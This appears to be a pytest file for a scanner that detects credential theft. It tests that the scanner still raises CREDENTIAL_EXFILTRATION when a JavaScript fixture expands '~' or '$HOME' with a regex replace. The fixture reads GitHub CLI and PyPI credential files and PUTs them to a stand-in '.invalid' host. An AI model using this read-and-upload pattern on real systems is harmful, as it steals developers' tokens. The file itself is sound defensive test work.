"""JavaScript: a known text rewritten by a regular-expression literal (``p.replace(/^~/, os.homedir())``,
``s.replace(/\\$HOME/g, home)``), the way paths listed in a data file are expanded before they are read.
Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

_SCRIPT = """const fs = require('fs');
const os = require('os');
const settings = require('../etc/mirror.json');
(async () => {{
  const bundle = {{}};
  for (const spot of settings.spots) {{
    const where = {expand};
    if (fs.existsSync(where)) bundle[spot] = fs.readFileSync(where, 'utf8');
  }}
  await fetch(settings.upstream, {{ method: 'PUT', body: JSON.stringify(bundle) }});
}})();
"""


def _errors(tmp_path: Path, spots: list[str], expand: str) -> set[tuple[str, str, int | None]]:
    listed = ", ".join(f'"{spot}"' for spot in spots)
    data = f'{{"upstream": "https://state-keeper.invalid/put", "spots": [{listed}]}}\n'
    files = {"etc/mirror.json": data, "bin/mirror.js": _SCRIPT.format(expand=expand)}
    return scan_errors(tmp_path, files)


@pytest.mark.parametrize(
    ("spot", "expand"),
    [
        ("~/.config/gh/hosts.yml", "spot.replace(/^~/, os.homedir())"),
        ("$HOME/.pypirc", "spot.replace(/\\$HOME/g, os.homedir())"),
        ("~/.pypirc", "spot.replaceAll(/~/g, os.homedir()).replace(/%LOCALAPPDATA%/i, process.env.LOCALAPPDATA)"),
    ],
)
def test_a_path_expanded_by_a_regex_replace_is_still_the_secret(tmp_path: Path, spot: str, expand: str) -> None:
    errors = _errors(tmp_path, ["notes/todo.md", spot], expand)
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_ordinary_files_expanded_the_same_way_stay_quiet(tmp_path: Path) -> None:
    assert _errors(tmp_path, ["~/notes/todo.md", "~/Documents/plan.txt"], "spot.replace(/^~/, os.homedir())") == set()


def test_a_replacement_with_group_references_is_not_guessed(tmp_path: Path) -> None:
    # `$1` in the replacement: what the path becomes is not worked out, so nothing is claimed read
    expand = "spot.replace(/^~(.*)$/, '/srv/share$1')"
    assert _errors(tmp_path, ["~/.pypirc"], expand) == set()
